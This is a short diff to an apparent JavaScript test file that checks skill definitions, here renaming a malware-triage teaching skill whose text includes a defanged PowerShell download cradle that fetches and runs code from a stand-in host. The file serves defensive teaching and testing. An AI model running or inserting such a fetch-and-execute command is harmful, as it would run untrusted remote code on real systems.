@@ -6,10 +6,10 @@ import { fence, itPasses, shell, skill } from './honest-skill.js';
 describe('skills of responders and administrators', () => {
   itPasses([
     skill(
-      'sample-reading',
-      'Lessons in reading suspicious scripts without running them.',
+      'malware-triage-lessons',
+      'Teaching material for analysts who triage malware and suspicious scripts without running them.',
       [
-        '## Tricks to recognise',
+        '## Tricks of malware to recognise',
         '### Download cradle',
         fence('', "IEX (New-Object Net.WebClient).DownloadString('hxxp://bad[.]example/a')"),
         'Addresses stay defanged.',
